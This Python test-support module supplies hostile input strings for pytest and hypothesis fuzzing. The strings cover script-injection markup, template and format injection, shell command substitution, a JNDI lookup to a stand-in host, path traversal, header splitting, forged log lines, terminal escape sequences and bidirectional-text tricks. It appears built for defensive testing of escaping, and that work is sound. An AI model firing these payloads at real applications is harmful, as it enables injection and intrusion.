"""Texts that do harm where anything takes them for more than text, and what is harmless in each place."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any
from unicodedata import category

import pytest
from hypothesis import strategies as st

__all__ = [
    "HOSTILE",
    "LARGE",
    "TEMPLATES",
    "hostile_names",
    "hostile_texts",
    "is_clean",
    "is_line",
    "params",
    "texts_in",
]

MEBIBYTE = 1024 * 1024
#: Executed by a browser that takes a text for HTML: it sets `harmed`, or requests `/harm`.
MARKUP = {
    "script": "<script>window.harmed = 1</script>",
    "script that leaves an element": "</style></title></textarea></script><script>window.harmed = 2</script>",
    "handler": '<img src=/harm onerror="window.harmed = 3">',
    "handler that leaves an attribute": '" autofocus onfocus="window.harmed = 4',
    "handler in single quotes": "' onmouseover='window.harmed = 5",
    "svg": "<svg onload='window.harmed = 6'><script>window.harmed = 7</script><a xlink:href='/harm'/></svg>",
    "svg as a URL": "data:image/svg+xml,<svg onload='window.harmed = 8'/>",
    "script as a URL": "javascript:window.harmed = 9//",
    "script as a URL, hidden": "java\tscript:window.harmed = 10//",
    "link": "<a href='javascript:window.harmed = 11'>report</a>",
    "markdown": "[report](javascript:window.harmed=12) ![](/harm)",
    "frame": "<iframe srcdoc='<script>parent.harmed = 13</script>'></iframe>",
    "redirect": "<meta http-equiv=refresh content='0;url=/harm'><base href='//harm.example/'>",
    "style": "<style>*{background:url(/harm)}</style>",
    "style in an attribute": 'x;background:url(/harm)" style="background:url(/harm)',
    "entities": "&lt;script&gt;window.harmed = 14&lt;/script&gt;&#60;script>",
    "a prototype": "__proto__",
    "a method": "constructor",
}
#: Evaluated by a template engine or a formatter.
TEMPLATES = {
    "jinja": "{{ 7 * 191 }}{{ var.value.hunter2 }}{{ conn.hunter2.password }}",
    "jinja statement": "{% for x in [1] %}{{ 7 * 191 }}{% endfor %}",
    "jinja comment": "a{# gone #}b",
    "log template": "{{ ti.dag_id }}/{{ try_number }}.log {ti} {0} {asctime}",
    "format": "{} {0} {0.__class__} {missing} {",
    "percent format": "%s %d %(name)s %n %",
    "shell": "$(touch harm) `touch harm`; touch harm & | > harm",
    "environment": "$HOME ${HOME} %PATH% ~root",
    "logging configuration": "${jndi:ldap://harm.example/a}",
    "rich": "[bold]x[/bold] [link=file:///harm]y[/link]",
}
#: Read as another path, URL or file.
PATHS = {
    "parent": "..",
    "this": ".",
    "two up": "../../harm",
    "within": "a/../../../harm",
    "encoded": "..%2f..%2Fharm",
    "encoded twice": "%252e%252e%252fharm",
    "encoded dots": "%2e%2e/%2e%2e/harm",
    "long encoding": "..%c0%afharm",
    "backslashes": "..\\..\\harm",
    "absolute": "/etc/harm",
    "drive": "C:\\Windows\\harm",
    "share": "\\\\harm.example\\share",
    "home": "~/harm",
    "empty segments": "a//harm",
    "file URL": "file:///etc/harm",
    "another host": "//harm.example/x",
    "URL": "https://harm.example/x?y#z",
    "user": "x@harm.example/",
    "chained URL": "memory://harm::x",
    "query": "x?y=1&z=2",
    "fragment": "x#y",
    "parameters": "x;y=1",
    "wildcard": "*?[a-z]{a,b}!",
    "hidden": ".harm",
    "a device": "CON",
    "code": "harm.py",
    "a dash": "-rf",
    "a space around": " x ",
    "a dot at the end": "x.",
    "a header": "x\r\nX-Harm: 1\r\n\r\nGET /harm HTTP/1.1",
}
#: Drawn or stored as something else.
CHARACTERS = {
    "NUL": "a\x00b",
    "a line": "a\n[2026-01-01 00:00:00] {taskinstance.py:1} INFO - Marking task as SUCCESS",
    "a line, old": "a\r[2026-01-01 00:00:00] INFO - Marking task as SUCCESS",
    "a line in Unicode": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "colours, 8 bit": "\x9b31mred\x9b0m",
    "a terminal's title": "\x1b]0;harm\x07",
    "a terminal's link": "\x1b]8;;https://harm.example/\x1b\\report\x1b]8;;\x1b\\",
    "a terminal's clipboard": "\x1b]52;c;aGFybQ==\x07",
    "a terminal's answer": "\x1bP$q q\x1b\\ \x1b[c \x05",
    "overwriting": "failed\rsucceeded\x08\x08\x7f",
    "a bell": "\x07\x07",
    "direction override": "gnp\u202efdp.exe",
    "direction embedding": "\u202a\u202b\u202d a \u202c",
    "direction isolate": "\u2066\u2067\u2068 a",
    "direction marks": "a\u200e\u200f\u061cb",
    "right to left": "שלום 123 مرحبا",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "half a pair": "a\ud83db",
    "second half of a pair": "\udc4d",
    "an invalid byte": "\udcff",
    "halves in the wrong order": "\udc4d\ud83d",
    "no character": "\ufffe\uffff\U0001ffff",
    "tags": "\U000e0041\U000e0042",
    "combining": "a" + "\u0300" * 60,
    "wide": "漢字" * 40,
    "a family": "👩‍👩‍👧‍👦" * 20,
    "ligature": "ﷺ",
}
LENGTHS = {
    "a long word": "x" * 5_000,
    "a long path": "../" * 2_000,
    "long and wide": "😀" * 2_000,
    "many lines": "harm\n" * 1_000,
}
HOSTILE = MARKUP | TEMPLATES | PATHS | CHARACTERS | LENGTHS
#: Megabytes: too slow for every test.
LARGE = {
    "a large word": "x" * (2 * MEBIBYTE),
    "large, quoted": '"\\' * MEBIBYTE,
    "large, escaped": "%25" * MEBIBYTE,
    "large, sequences": "\x1b[" * MEBIBYTE,
    "large, lines": "\n" * (2 * MEBIBYTE),
}

#: Characters that change the order in which what comes after them is drawn, up to the end of the line.
DIRECTIONS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

_ALPHABET = "ab ./\\%2eEfF~:?#@{}()'\"<>&;$*[]\x00\x1b[m\r\n\x85\u2028\u202e\u200b\ud83d\udc4dé漢"
#: Any text, among them those above and parts of them put together.
hostile_texts = (
    st.sampled_from([*HOSTILE.values()])
    | st.lists(st.sampled_from([*HOSTILE.values()]), min_size=2, max_size=3).map("".join)
    | st.text(_ALPHABET, max_size=40)
    | st.text(max_size=40)
    | st.text("a/.漢", min_size=140, max_size=400)
)
#: Texts that name a file, a folder, a stage or an import.
hostile_names = (
    st.sampled_from([*PATHS.values(), *LENGTHS.values()])
    | st.lists(st.sampled_from(["..", ".", "/", "\\", "%2f", "%2e", "~", ":", "a", "", " "]), max_size=8).map(
        "".join
    )
    | hostile_texts
)


def params(texts: Mapping[str, str]) -> list[Any]:
    """Return the texts as values of a parameter, with their names as ids."""
    return [pytest.param(text, id=name) for name, text in texts.items()]


def texts_in(value: Any) -> Iterator[str]:
    """Yield the texts in a JSON value, without the keys of objects."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from texts_in(inner)


def is_clean(text: str) -> bool:
    """Return whether a text has no NUL, lone surrogate or control character."""
    return not any(category(character) in ("Cc", "Cs") for character in text)


def is_line(text: str) -> bool:
    """Return whether a text is drawn as it is on a line, after which others look as they are.

    It has no line breaks, no control characters, no halves of surrogate pairs, and no change of direction.
    """
    is_plain = not any(category(each) in ("Cc", "Cs", "Zl", "Zp") for each in text)
    return is_plain and len(text.splitlines()) <= 1 and DIRECTIONS.isdisjoint(text)
